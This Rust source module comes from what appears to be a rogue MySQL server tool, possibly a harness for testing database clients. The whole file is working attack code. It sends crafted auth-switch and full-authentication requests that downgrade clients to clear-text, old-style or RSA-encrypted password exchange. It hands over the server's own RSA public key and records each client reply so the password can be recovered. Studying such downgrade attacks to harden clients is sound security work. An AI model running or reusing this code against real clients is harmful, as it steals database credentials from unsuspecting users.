//! Authentication requests that trick a client into sending a password that the rogue server can recover.

use std::io;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};

use super::RogueAttack;
use super::client_packet_recorder::ClientPacketRecorder;
use super::rsa_key::PUBLIC_KEY_PEM;
use crate::fake_server::packets;
use crate::mysql_packets::{read_packet, write_packet};

/// First byte of an `AuthMoreData` packet.
const AUTH_MORE_DATA_HEADER: u8 = 1;
/// Status byte with which a `caching_sha2_password` server requests full authentication.
const FULL_AUTHENTICATION_STATUS_BYTE: u8 = 4;
/// Packets with which `caching_sha2_password` and `sha256_password` clients request the server's RSA key.
const RSA_KEY_REQUEST_PACKETS: [&[u8]; 2] = [&[2], &[1]];

pub(super) fn auth_plugin_name_in_greeting(mode: &RogueAttack) -> &'static str {
    match mode {
        RogueAttack::FullAuthentication => "caching_sha2_password",
        _ => "mysql_native_password",
    }
}

pub(super) async fn complete_authentication<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    mut sequence: u8,
    mode: &RogueAttack,
    recording: &ClientPacketRecorder,
) -> io::Result<()> {
    let request = match mode {
        RogueAttack::FullAuthentication => Some(vec![AUTH_MORE_DATA_HEADER, FULL_AUTHENTICATION_STATUS_BYTE]),
        RogueAttack::ClearPassword => Some(encode_auth_switch_request("mysql_clear_password")),
        RogueAttack::OldPassword => Some(encode_auth_switch_request("mysql_old_password")),
        RogueAttack::Sha256Password => Some(encode_auth_switch_request("sha256_password")),
        _ => None,
    };
    if let Some(request) = request {
        sequence = exchange_authentication_packets(stream, sequence, &request, recording).await?;
    }
    write_packet(stream, sequence.wrapping_add(1), &packets::OK_PACKET).await?;
    stream.flush().await
}

async fn exchange_authentication_packets<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    sequence: u8,
    request: &[u8],
    recording: &ClientPacketRecorder,
) -> io::Result<u8> {
    write_packet(stream, sequence.wrapping_add(1), request).await?;
    stream.flush().await?;
    let (mut sequence, mut response) = read_packet(stream).await?;
    recording.append_client_packet(response.clone());
    if RSA_KEY_REQUEST_PACKETS.contains(&response.as_slice()) {
        let key = [&[AUTH_MORE_DATA_HEADER], PUBLIC_KEY_PEM.as_bytes()].concat();
        write_packet(stream, sequence.wrapping_add(1), &key).await?;
        stream.flush().await?;
        (sequence, response) = read_packet(stream).await?;
        recording.append_client_packet(response);
    }
    Ok(sequence)
}

fn encode_auth_switch_request(plugin: &str) -> Vec<u8> {
    [&[0xfe], plugin.as_bytes(), &[0], packets::GREETING_NONCE.as_slice(), &[0]].concat()
}
